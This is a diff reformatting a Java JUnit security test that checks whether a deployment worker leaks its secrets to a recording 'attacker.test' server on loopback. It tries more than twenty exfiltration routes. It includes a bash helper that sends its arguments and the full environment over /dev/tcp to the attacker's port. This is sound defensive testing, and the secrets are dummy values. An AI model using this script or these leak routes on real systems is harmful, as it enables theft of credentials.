@@ -40,19 +40,20 @@ import org.junit.jupiter.api.io.TempDir;
  * Issue 9, "secrets go only where the worker's operator allows": a plan tries to send the worker's
  * secrets to a server it names, by every route a plan has (URLs, headers, bodies, connections,
  * Prometheus, redirects through a legitimate host, actions, traffic and flag calls, the webhook,
- * command arguments and environment), under both a default-deny host policy and one that allows
- * the attacker's host. The attacker is a real HTTP server on loopback that records every byte it
- * receives. The secrets: one the worker does not allow (AWS_SECRET_ACCESS_KEY), one it allows
- * only towards its own host (FLAG_TOKEN@flags.internal) and a setting of the worker itself
+ * command arguments and environment), under both a default-deny host policy and one that allows the
+ * attacker's host. The attacker is a real HTTP server on loopback that records every byte it
+ * receives. The secrets: one the worker does not allow (AWS_SECRET_ACCESS_KEY), one it allows only
+ * towards its own host (FLAG_TOKEN@flags.internal) and a setting of the worker itself
  * (TEMPORAL_API_KEY). None reaches the attacker, in any encoding, nor any message. Two controls
  * prove the harness sees what it should: the bound token does reach its own host, and a token the
  * operator allows everywhere (their choice) does reach an allowed host.
  */
 class ExfiltrationTest {
-  private static final Map<String, String> FORBIDDEN = Map.of(
-      "AWS_SECRET_ACCESS_KEY", "aws-exfil-s3cret-7f3e9c1d",
-      "FLAG_TOKEN", "flag-exfil-t0ken-51c2",
-      "TEMPORAL_API_KEY", "temporal-exfil-key-9a8b");
+  private static final Map<String, String> FORBIDDEN =
+      Map.of(
+          "AWS_SECRET_ACCESS_KEY", "aws-exfil-s3cret-7f3e9c1d",
+          "FLAG_TOKEN", "flag-exfil-t0ken-51c2",
+          "TEMPORAL_API_KEY", "temporal-exfil-key-9a8b");
   private static final String OPEN = "open-allowed-t0ken-3d4e";
 
   private static HttpServer attacker;
@@ -60,30 +61,39 @@ class ExfiltrationTest {
   private static final List<String> atAttacker = Collections.synchronizedList(new ArrayList<>());
   private static final List<String> atFlags = Collections.synchronizedList(new ArrayList<>());
 
-  @TempDir
-  static Path dir;
+  @TempDir static Path dir;
   private static Path send;
 
   @BeforeAll
   static void start() throws IOException {
     attacker = recording(atAttacker, null);
     // A legitimate flag API (flags.internal), whose redirects point at the attacker.
-    flags = recording(atFlags, exchange -> {
-      String path = exchange.getRequestURI().getPath();
-      if (path.startsWith("/redirect/")) {
-        exchange.getResponseHeaders().add("Location", "http://attacker.test:" + attacker.getAddress().getPort() + "/steal");
-        return Integer.parseInt(path.substring("/redirect/".length()));
-      }
-      return 200;
-    });
+    flags =
+        recording(
+            atFlags,
+            exchange -> {
+              String path = exchange.getRequestURI().getPath();
+              if (path.startsWith("/redirect/")) {
+                exchange
+                    .getResponseHeaders()
+                    .add(
+                        "Location",
+                        "http://attacker.test:" + attacker.getAddress().getPort() + "/steal");
+                return Integer.parseInt(path.substring("/redirect/".length()));
+              }
+              return 200;
+            });
     // A program the worker allows, with any arguments, that sends what it gets to the attacker.
     send = dir.resolve("send");
-    Files.writeString(send, """
+    Files.writeString(
+        send,
+        """
         #!/bin/bash
         exec 3<>/dev/tcp/127.0.0.1/%d
         printf 'GET /cmd?args=%%s&env=%%s HTTP/1.0\\r\\n\\r\\n' "$*" "$(env | tr '\\n' ' ')" >&3
         cat <&3 > /dev/null
-        """.formatted(attacker.getAddress().getPort()));
+        """
+            .formatted(attacker.getAddress().getPort()));
     Files.setPosixFilePermissions(send, PosixFilePermissions.fromString("rwx------"));
   }
 
@@ -94,18 +104,25 @@ class ExfiltrationTest {
   /** A loopback HTTP server recording method, URI, headers and body of every request. */
   private static HttpServer recording(List<String> into, Respond respond) throws IOException {
     HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
-    s.createContext("/", exchange -> {
-      StringBuilder r = new StringBuilder(exchange.getRequestMethod() + " " + exchange.getRequestURI() + "\n");
-      exchange.getRequestHeaders().forEach((k, v) -> r.append(k).append(": ").append(v).append('\n'));
-      r.append(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
-      into.add(r.toString());
-      int status = respond == null ? 200 : respond.status(exchange);
-      byte[] body = "{\"value\": 10, \"status\": \"success\", \"data\": {\"resultType\": \"scalar\", \"result\": [0, \"1\"]}}"
-          .getBytes(StandardCharsets.UTF_8);
-      exchange.sendResponseHeaders(status, body.length);
-      exchange.getResponseBody().write(body);
-      exchange.close();
-    });
+    s.createContext(
+        "/",
+        exchange -> {
+          StringBuilder r =
+              new StringBuilder(
+                  exchange.getRequestMethod() + " " + exchange.getRequestURI() + "\n");
+          exchange
+              .getRequestHeaders()
+              .forEach((k, v) -> r.append(k).append(": ").append(v).append('\n'));
+          r.append(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
+          into.add(r.toString());
+          int status = respond == null ? 200 : respond.status(exchange);
+          byte[] body =
+              "{\"value\": 10, \"status\": \"success\", \"data\": {\"resultType\": \"scalar\", \"result\": [0, \"1\"]}}"
+                  .getBytes(StandardCharsets.UTF_8);
+          exchange.sendResponseHeaders(status, body.length);
+          exchange.getResponseBody().write(body);
+          exchange.close();
+        });
     s.start();
     return s;
   }
@@ -116,10 +133,13 @@ class ExfiltrationTest {
     flags.stop(0);
   }
 
-  private static final Dns NAMES = host -> switch (host) {
-    case "attacker.test", "flags.internal" -> List.of(InetAddress.getByAddress(host, new byte[] {127, 0, 0, 1}));
-    default -> throw new UnknownHostException(host);
-  };
+  private static final Dns NAMES =
+      host ->
+          switch (host) {
+            case "attacker.test", "flags.internal" ->
+                List.of(InetAddress.getByAddress(host, new byte[] {127, 0, 0, 1}));
+            default -> throw new UnknownHostException(host);
+          };
 
   private static CutoverActivitiesImpl worker(boolean attackerAllowed) {
     Map<String, String> env = new HashMap<>(FORBIDDEN);
@@ -130,7 +150,10 @@ class ExfiltrationTest {
     if (attackerAllowed) {
       env.put(HostPolicy.VARIABLE, "127.0.0.1,attacker.test,flags.internal");
     }
-    return new CutoverActivitiesImpl(Fixtures.settings(env), Duration.ofSeconds(3), new OkHttpClient.Builder().dns(NAMES).build());
+    return new CutoverActivitiesImpl(
+        Fixtures.settings(env),
+        Duration.ofSeconds(3),
+        new OkHttpClient.Builder().dns(NAMES).build());
   }
 
   /** One way of sending {@code ref} somewhere: runs it and returns what the worker said. */
@@ -144,22 +167,40 @@ class ExfiltrationTest {
     return "http://flags.internal:" + flags.getAddress().getPort();
   }
 
-  private static String check(CutoverActivitiesImpl w, String yaml, Map<String, JsonNode> connections) {
-    List<Reading> r = w.measure(new MeasureRequest("cutover-exfil", List.of(
-        new MeasureRequest.CheckSpec("leak", tree(yaml), connections))));
+  private static String check(
+      CutoverActivitiesImpl w, String yaml, Map<String, JsonNode> connections) {
+    List<Reading> r =
+        w.measure(
+            new MeasureRequest(
+                "cutover-exfil",
+                List.of(new MeasureRequest.CheckSpec("leak", tree(yaml), connections))));
     return r.toString();
   }
 
-  private static String apply(CutoverActivitiesImpl w, Step.Kind kind, JsonNode traffic, JsonNode flagsApi,
-      JsonNode action, Map<String, JsonNode> connections) {
-    Step step = switch (kind) {
-      case TRAFFIC -> new Step(kind, 0, 0, 10, null, "stage-0/traffic");
-      case FLAGS -> new Step(kind, 0, 0, null, Map.of("v2", BooleanNode.TRUE), "stage-0/flags");
-      default -> new Step(kind, 0, 0, null, null, "stage-0/actions/0");
-    };
+  private static String apply(
+      CutoverActivitiesImpl w,
+      Step.Kind kind,
+      JsonNode traffic,
+      JsonNode flagsApi,
+      JsonNode action,
+      Map<String, JsonNode> connections) {
+    Step step =
+        switch (kind) {
+          case TRAFFIC -> new Step(kind, 0, 0, 10, null, "stage-0/traffic");
+          case FLAGS -> new Step(kind, 0, 0, null, Map.of("v2", BooleanNode.TRUE), "stage-0/flags");
+          default -> new Step(kind, 0, 0, null, null, "stage-0/actions/0");
+        };
     try {
-      return w.apply(new EffectRequest("cutover-exfil", "cutover-exfil/" + step.key(), "canary", step, traffic,
-          flagsApi, action, connections));
+      return w.apply(
+          new EffectRequest(
+              "cutover-exfil",
+              "cutover-exfil/" + step.key(),
+              "canary",
+              step,
+              traffic,
+              flagsApi,
+              action,
+              connections));
     } catch (RuntimeException e) {
       return e.getMessage();
     }
@@ -171,51 +212,237 @@ class ExfiltrationTest {
 
   static List<Vector> vectors() {
     return List.of(
-        new Vector("check URL query", (w, ref) -> check(w, "http: GET " + a() + "/q?k=" + ref + "\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("check URL path", (w, ref) -> check(w, "http: GET " + a() + "/" + ref + "\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("check URL user info", (w, ref) -> check(w, "http: GET http://" + ref + "@127.0.0.1:"
-            + attacker.getAddress().getPort() + "/\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("check URL host", (w, ref) -> check(w, "http: GET http://" + ref + ".attacker.test:"
-            + attacker.getAddress().getPort() + "/\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("check header", (w, ref) -> check(w, "http: GET " + a() + "/h\nheaders: { X-Leak: \"" + ref
-            + "\" }\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("check body", (w, ref) -> check(w, "http: POST " + a() + "/b\nbody: \"" + ref
-            + "\"\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("connection header", (w, ref) -> check(w, "http: GET c:/c\nexpect: { status: 200 }\n",
-            conn("http: " + a() + "\nheaders: { Authorization: \"Bearer " + ref + "\" }\n"))),
-        new Vector("connection URL", (w, ref) -> check(w, "http: GET c:/x\nexpect: { status: 200 }\n",
-            conn("http: \"" + a() + "/" + ref + "\"\n"))),
-        new Vector("whole-URL reference", (w, ref) -> check(w, "http: GET c:/x\nexpect: { status: 200 }\n",
-            conn("http: \"" + ref + "\"\n"))),
-        new Vector("prometheus URL", (w, ref) -> check(w, "prometheus: c\nquery: up\npass: '== 1'\n",
-            conn("prometheus: \"" + a() + "/" + ref + "\"\n"))),
-        new Vector("prometheus header", (w, ref) -> check(w, "prometheus: c\nquery: up\npass: '== 1'\n",
-            conn("prometheus: " + a() + "\nheaders: { Authorization: \"Bearer " + ref + "\" }\n"))),
-        new Vector("redirect 302 with the secret in a header", (w, ref) -> check(w, "http: GET " + f()
-            + "/redirect/302\nheaders: { X-Leak: \"" + ref + "\" }\nfollowRedirects: true\nexpect: { status: 200 }\n", Map.of())),
-        new Vector("redirect 307 with the secret in the body", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("http: POST " + f() + "/redirect/307\nbody: \"" + ref + "\"\nfollowRedirects: true\n"), Map.of())),
-        new Vector("action URL", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("http: POST " + a() + "/act?k=" + ref + "\n"), Map.of())),
-        new Vector("action header", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("http: POST " + a() + "/act\nheaders: { X-Leak: \"" + ref + "\" }\n"), Map.of())),
-        new Vector("action body", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("http: POST " + a() + "/act\nbody: '{\"k\": \"" + ref + "\"}'\n"), Map.of())),
-        new Vector("action whole-URL reference", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("http: \"POST " + ref + "\"\n"), Map.of())),
-        new Vector("traffic URL", (w, ref) -> apply(w, Step.Kind.TRAFFIC, tree("set: { http: \"PUT " + a() + "/t/"
-            + ref + "\", body: '{\"value\": ${percent}}' }\n"), null, null, Map.of())),
-        new Vector("traffic header and body", (w, ref) -> apply(w, Step.Kind.TRAFFIC, tree("set: { http: \"PUT " + a()
-            + "/t\", headers: { X-Leak: \"" + ref + "\" }, body: '{\"value\": ${percent}, \"k\": \"" + ref + "\"}' }\n"),
-            null, null, Map.of())),
-        new Vector("flags body", (w, ref) -> apply(w, Step.Kind.FLAGS, null, tree("set: { http: \"PUT " + a()
-            + "/f/${flag}\", body: '{\"value\": ${value}, \"k\": \"" + ref + "\"}' }\n"), null, Map.of())),
+        new Vector(
+            "check URL query",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET " + a() + "/q?k=" + ref + "\nexpect: { status: 200 }\n",
+                    Map.of())),
+        new Vector(
+            "check URL path",
+            (w, ref) ->
+                check(w, "http: GET " + a() + "/" + ref + "\nexpect: { status: 200 }\n", Map.of())),
+        new Vector(
+            "check URL user info",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET http://"
+                        + ref
+                        + "@127.0.0.1:"
+                        + attacker.getAddress().getPort()
+                        + "/\nexpect: { status: 200 }\n",
+                    Map.of())),
+        new Vector(
+            "check URL host",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET http://"
+                        + ref
+                        + ".attacker.test:"
+                        + attacker.getAddress().getPort()
+                        + "/\nexpect: { status: 200 }\n",
+                    Map.of())),
+        new Vector(
+            "check header",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET "
+                        + a()
+                        + "/h\nheaders: { X-Leak: \""
+                        + ref
+                        + "\" }\nexpect: { status: 200 }\n",
+                    Map.of())),
+        new Vector(
+            "check body",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: POST " + a() + "/b\nbody: \"" + ref + "\"\nexpect: { status: 200 }\n",
+                    Map.of())),
+        new Vector(
+            "connection header",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET c:/c\nexpect: { status: 200 }\n",
+                    conn(
+                        "http: "
+                            + a()
+                            + "\nheaders: { Authorization: \"Bearer "
+                            + ref
+                            + "\" }\n"))),
+        new Vector(
+            "connection URL",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET c:/x\nexpect: { status: 200 }\n",
+                    conn("http: \"" + a() + "/" + ref + "\"\n"))),
+        new Vector(
+            "whole-URL reference",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET c:/x\nexpect: { status: 200 }\n",
+                    conn("http: \"" + ref + "\"\n"))),
+        new Vector(
+            "prometheus URL",
+            (w, ref) ->
+                check(
+                    w,
+                    "prometheus: c\nquery: up\npass: '== 1'\n",
+                    conn("prometheus: \"" + a() + "/" + ref + "\"\n"))),
+        new Vector(
+            "prometheus header",
+            (w, ref) ->
+                check(
+                    w,
+                    "prometheus: c\nquery: up\npass: '== 1'\n",
+                    conn(
+                        "prometheus: "
+                            + a()
+                            + "\nheaders: { Authorization: \"Bearer "
+                            + ref
+                            + "\" }\n"))),
+        new Vector(
+            "redirect 302 with the secret in a header",
+            (w, ref) ->
+                check(
+                    w,
+                    "http: GET "
+                        + f()
+                        + "/redirect/302\nheaders: { X-Leak: \""
+                        + ref
+                        + "\" }\nfollowRedirects: true\nexpect: { status: 200 }\n",
+                    Map.of())),
+        new Vector(
+            "redirect 307 with the secret in the body",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree(
+                        "http: POST "
+                            + f()
+                            + "/redirect/307\nbody: \""
+                            + ref
+                            + "\"\nfollowRedirects: true\n"),
+                    Map.of())),
+        new Vector(
+            "action URL",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree("http: POST " + a() + "/act?k=" + ref + "\n"),
+                    Map.of())),
+        new Vector(
+            "action header",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree("http: POST " + a() + "/act\nheaders: { X-Leak: \"" + ref + "\" }\n"),
+                    Map.of())),
+        new Vector(
+            "action body",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree("http: POST " + a() + "/act\nbody: '{\"k\": \"" + ref + "\"}'\n"),
+                    Map.of())),
+        new Vector(
+            "action whole-URL reference",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree("http: \"POST " + ref + "\"\n"),
+                    Map.of())),
+        new Vector(
+            "traffic URL",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.TRAFFIC,
+                    tree(
+                        "set: { http: \"PUT "
+                            + a()
+                            + "/t/"
+                            + ref
+                            + "\", body: '{\"value\": ${percent}}' }\n"),
+                    null,
+                    null,
+                    Map.of())),
+        new Vector(
+            "traffic header and body",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.TRAFFIC,
+                    tree(
+                        "set: { http: \"PUT "
+                            + a()
+                            + "/t\", headers: { X-Leak: \""
+                            + ref
+                            + "\" }, body: '{\"value\": ${percent}, \"k\": \""
+                            + ref
+                            + "\"}' }\n"),
+                    null,
+                    null,
+                    Map.of())),
+        new Vector(
+            "flags body",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.FLAGS,
+                    null,
+                    tree(
+                        "set: { http: \"PUT "
+                            + a()
+                            + "/f/${flag}\", body: '{\"value\": ${value}, \"k\": \""
+                            + ref
+                            + "\"}' }\n"),
+                    null,
+                    Map.of())),
         new Vector("webhook URL", (w, ref) -> notify(w, a() + "/hook/" + ref)),
         new Vector("webhook whole reference", (w, ref) -> notify(w, ref)),
-        new Vector("command argument", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("command: [" + send + ", \"" + ref + "\"]\n"), Map.of())),
-        new Vector("command env", (w, ref) -> apply(w, Step.Kind.ACTION, null, null,
-            tree("command: [" + send + "]\nenv: { LEAK: \"" + ref + "\" }\n"), Map.of())));
+        new Vector(
+            "command argument",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree("command: [" + send + ", \"" + ref + "\"]\n"),
+                    Map.of())),
+        new Vector(
+            "command env",
+            (w, ref) ->
+                apply(
+                    w,
+                    Step.Kind.ACTION,
+                    null,
+                    null,
+                    tree("command: [" + send + "]\nenv: { LEAK: \"" + ref + "\" }\n"),
+                    Map.of())));
   }
 
   private static String notify(CutoverActivitiesImpl w, String webhook) {
@@ -225,7 +452,9 @@ class ExfiltrationTest {
 
   /** Every form a value could take on the wire: as is, URL-encoded, base64. */
   private static List<String> forms(String value) {
-    return List.of(value, URLEncoder.encode(value, StandardCharsets.UTF_8),
+    return List.of(
+        value,
+        URLEncoder.encode(value, StandardCharsets.UTF_8),
         Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8)));
   }
 
@@ -252,8 +481,9 @@ class ExfiltrationTest {
         assertThat(said).as("no message holds %s", value).noneMatch(s -> s.contains(form));
       }
     }
-    System.out.printf("exfiltration attempts tried: %d (%d routes x %d secrets x 2 host policies);"
-        + " requests the attacker's server got: %d; secrets it received: %d%n",
+    System.out.printf(
+        "exfiltration attempts tried: %d (%d routes x %d secrets x 2 host policies);"
+            + " requests the attacker's server got: %d; secrets it received: %d%n",
         tried, vectors.size(), FORBIDDEN.size(), atAttacker.size(), received);
     assertThat(tried).isEqualTo(vectors.size() * FORBIDDEN.size() * 2);
     assertThat(received).isZero();
@@ -264,13 +494,31 @@ class ExfiltrationTest {
   @Test
   void theBoundTokenReachesItsOwnHostAndAnOpenTokenReachesAnAllowedHostTheControls() {
     try (CutoverActivitiesImpl w = worker(true)) {
-      String own = check(w, "http: GET " + f() + "/ok\nheaders: { Authorization: \"Bearer ${env:FLAG_TOKEN}\" }\n"
-          + "expect: { status: 200 }\n", Map.of());
-      String open = check(w, "http: GET " + a() + "/open\nheaders: { X-Open: \"${env:OPEN_TOKEN}\" }\n"
-          + "expect: { status: 200 }\n", Map.of());
+      String own =
+          check(
+              w,
+              "http: GET "
+                  + f()
+                  + "/ok\nheaders: { Authorization: \"Bearer ${env:FLAG_TOKEN}\" }\n"
+                  + "expect: { status: 200 }\n",
+              Map.of());
+      String open =
+          check(
+              w,
+              "http: GET "
+                  + a()
+                  + "/open\nheaders: { X-Open: \"${env:OPEN_TOKEN}\" }\n"
+                  + "expect: { status: 200 }\n",
+              Map.of());
 
-      String program = apply(w, Step.Kind.ACTION, null, null,
-          tree("command: [" + send + ", open]\nenv: { LEAK: \"${env:OPEN_TOKEN}\" }\n"), Map.of());
+      String program =
+          apply(
+              w,
+              Step.Kind.ACTION,
+              null,
+              null,
+              tree("command: [" + send + ", open]\nenv: { LEAK: \"${env:OPEN_TOKEN}\" }\n"),
+              Map.of());
 
       assertThat(own).contains("kind=VALUE").doesNotContain(FORBIDDEN.get("FLAG_TOKEN"));
       assertThat(open).contains("kind=VALUE");
@@ -279,6 +527,7 @@ class ExfiltrationTest {
     assertThat(atFlags).anyMatch(r -> r.contains("Bearer " + FORBIDDEN.get("FLAG_TOKEN")));
     assertThat(atAttacker).anyMatch(r -> r.startsWith("GET /open") && r.contains(OPEN));
     // A program holds what it is given: an unbound secret handed to it can go anywhere it likes.
-    assertThat(atAttacker).anyMatch(r -> r.startsWith("GET /cmd?args=open") && r.contains("LEAK=" + OPEN));
+    assertThat(atAttacker)
+        .anyMatch(r -> r.startsWith("GET /cmd?args=open") && r.contains("LEAK=" + OPEN));
   }
 }
